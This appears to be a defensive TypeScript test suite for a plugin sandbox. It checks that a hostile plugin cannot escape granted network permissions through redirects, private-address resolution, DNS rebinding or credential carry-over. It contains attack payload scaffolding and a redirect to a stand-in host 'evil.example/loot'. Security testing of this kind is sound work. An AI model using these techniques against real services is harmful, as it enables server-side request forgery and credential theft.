/** A plugin that means harm tries to reach what it was not granted, over the whole host, in both isolations. */
import assert from "node:assert/strict";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import test from "node:test";
import { watchDials } from "../support/dials.ts";
import { connect, startTestHost } from "../support/host.ts";
import { publishTestPlugin, registerPublisher } from "../support/plugin.ts";
import { addressesThatNobodyMayReach, answersThatLead, attacks, redirectTargets } from "./network-attacks.ts";

const secret = "key-of-the-tenant-0123456789";
const network = [
  {
    hosts: ["api.vendor.example", "dns.vendor.example", "files.vendor.example"],
    methods: ["GET" as const, "POST" as const],
    reason: "Call the vendor",
  },
  {
    hosts: ["paths.vendor.example"],
    methods: ["GET" as const],
    paths: ["/v1/*", "/v2/**"],
    reason: "Read some of it",
  },
];

/** What each payload is written with: it says `won` with what it got, or `lost` with the code it was refused with. */
const prelude = `
  const attempt = async (request, init, isLoot = () => true) => {
    try {
      const response = await fetch(request, init);
      const text = await response.text();
      return isLoot(text, response) ? { won: response.status + " " + response.url + " " + text.slice(0, 500) } : { lost: "harmless" };
    } catch (error) { return { lost: String(error.code ?? error.name), message: String(error.message) }; }
  };
  const all = async (list, one) => {
    const outcomes = [];
    for (const item of list) outcomes.push({ item: String(item), ...(await one(item)) });
    return outcomes;
  };
  const echo = "https://api.vendor.example/echo";
`;

/** The name of an attack as one that an action may have. */
const actionOf = (attack: string) => attack.replaceAll(" ", "-").toLowerCase();

const actions = {
  ...Object.fromEntries(
    Object.entries(attacks).map(([name, { run }]) => [actionOf(name), { run: `${prelude} ${run}` }]),
  ),
  dial: { run: `${prelude} return [await attempt("https://dns.vendor.example/")];` },
  follow: {
    run: `${prelude} return all(input.targets, (target) =>
      attempt("https://api.vendor.example/redirect?status=" + input.status + "&to=" + encodeURIComponent(target)));`,
  },
};

interface Outcome {
  item?: string;
  won?: string;
  lost?: string;
  message?: string;
}

/** The vendor: tells what it was asked, and redirects to wherever its query says. */
function vendor(seen: string[]) {
  return (request: IncomingMessage, response: ServerResponse) => {
    const url = new URL(request.url ?? "/", "http://vendor");
    seen.push(`${request.method} ${request.headers.host}${request.url}`);
    if (url.pathname === "/redirect") {
      const location = Buffer.from(url.searchParams.get("to") ?? "").toString("latin1");
      // Past Node's own checks: a vendor's server may have none.
      request.socket.end(
        `HTTP/1.1 ${url.searchParams.get("status")} Found\r\nLocation: ${location}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n`,
      );
      return;
    }
    response.end(JSON.stringify({ method: request.method, url: request.url, headers: request.rawHeaders }));
  };
}

async function listen(t: test.TestContext, handle: Parameters<typeof createServer>[1]): Promise<string> {
  const server = createServer(handle);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

for (const isolation of ["thread", "process"] as const) {
  test(`network attacks (${isolation})`, async (t) => {
    const seen: string[] = [];
    const seenAtOther: string[] = [];
    const origin = await listen(t, vendor(seen));
    const other = await listen(t, vendor(seenAtOther));
    const canary = await watchDials(t);
    let answers: () => string[] = () => [];
    let asked = 0;
    const host = await startTestHost(t, {
      isolation,
      egressRewrite: {
        "api.vendor.example": origin,
        "paths.vendor.example": origin,
        "files.vendor.example": other,
      },
      egressResolve: async () => {
        asked++;
        return answers();
      },
    });
    const publisher = await registerPublisher(host.address, "mallory");
    await publishTestPlugin(host.address, publisher, {
      id: "mallory/net",
      actions,
      permissions: { network },
    });
    const tenant = await host.tenant();
    const { connectionId } = await connect(tenant, "mallory/net", { key: secret });

    async function run(action: string, input: object = {}): Promise<Outcome[]> {
      const answer = await tenant.api.post(`/api/v1/connections/${connectionId}/actions/${action}`, {
        input,
      });
      assert.equal(answer.status, 200, JSON.stringify(answer.body));
      return answer.body.output;
    }

    /** Nothing was won, and each try was refused in one of these ways. */
    function assertLost(outcomes: Outcome[], how: RegExp): void {
      assert.ok(outcomes.length > 0);
      for (const outcome of outcomes) {
        assert.equal(outcome.won, undefined, JSON.stringify(outcome));
        assert.match(outcome.lost ?? "", how, JSON.stringify(outcome));
      }
      assert.deepEqual(canary.hits, []);
    }

    for (const [name, { lost }] of Object.entries(attacks)) {
      await t.test(name, async () => assertLost(await run(actionOf(name)), lost));
    }

    for (const status of [301, 302, 303, 307, 308]) {
      await t.test(`a redirect (${status}) to where it could not go by itself`, async () => {
        const before = seen.length;
        const outcomes = await run("follow", { status, targets: redirectTargets });
        assertLost(outcomes, /^fetch-(not-granted|redirect-refused|address-not-public|failed)$/);
        assert.equal(seen.length - before, redirectTargets.length, "no redirect was followed");
      });
    }

    await t.test("a redirect to another granted host, for the credential", async () => {
      const [outcome] = await run("follow", { status: 307, targets: ["https://files.vendor.example/echo"] });
      assert.match(outcome?.won ?? "", /"url":"\/echo"/, "it is followed");
      assert.doesNotMatch(outcome?.won ?? "", /authorization/i);
    });

    await t.test("a name that leads to an address which is not public", async () => {
      for (const address of addressesThatNobodyMayReach) {
        answers = () => [address];
        assertLost(await run("dial"), /^fetch-address-not-public$/);
      }
    });

    for (const [what, { addresses, lost }] of Object.entries(answersThatLead)) {
      await t.test(`a name server's answer: ${what}`, async () => {
        answers = () => addresses;
        assertLost(await run("dial"), lost);
      });
    }

    await t.test("a name server that changes its answer after the check", async () => {
      let times = 0;
      answers = () => (times++ === 0 ? ["93.184.216.34"] : ["127.0.0.1"]);
      asked = 0;
      const [outcome] = await run("dial");
      assert.equal(outcome?.lost, "fetch-failed", "the canary speaks no TLS");
      assert.equal(asked, 1);
      const dialled = canary.hits.splice(0);
      assert.ok(dialled.length > 0, "a public address is dialled, so the canary sees what the host dials");
      assert.deepEqual(new Set(dialled), new Set(["93.184.216.34:443"]), "and is the one that was checked");
      assertLost(await run("dial"), /^fetch-address-not-public$/);
    });

    await t.test("nothing of the credential came along", () => {
      assert.ok(seen.length > 50 && seenAtOther.length > 0);
      assert.doesNotMatch(host.logged(), new RegExp(secret));
    });
  });
}

test("the harness notices: the same payloads win where the walls have a hole", async (t) => {
  const seen: string[] = [];
  const origin = await listen(t, vendor(seen));
  const host = await startTestHost(t, {
    isolation: "thread",
    // An operator's table is the one way past the check of addresses.
    egressRewrite: { "api.vendor.example": origin, "dns.vendor.example": origin, "evil.example": origin },
  });
  const publisher = await registerPublisher(host.address, "mallory");
  const weak = [
    {
      hosts: ["api.vendor.example", "dns.vendor.example", "evil.example"],
      methods: ["GET" as const, "POST" as const],
      reason: "All of it",
    },
  ];
  await publishTestPlugin(host.address, publisher, {
    id: "mallory/net",
    actions,
    permissions: { network: weak },
  });
  const tenant = await host.tenant();
  const { connectionId } = await connect(tenant, "mallory/net", { key: secret });
  const run = async (action: string, input: object = {}): Promise<Outcome[]> =>
    (await tenant.api.post(`/api/v1/connections/${connectionId}/actions/${action}`, { input })).body.output;

  assert.match((await run("dial"))[0]?.won ?? "", /^200 https:\/\/dns\.vendor\.example\//);
  const [redirected] = await run("follow", { status: 302, targets: ["https://evil.example/loot"] });
  assert.match(redirected?.won ?? "", /^200 https:\/\/evil\.example\/loot/);
  const hosts = await run(actionOf("another host"));
  assert.ok(
    hosts.some(({ won }) => won?.includes("evil.example")),
    JSON.stringify(hosts),
  );
});
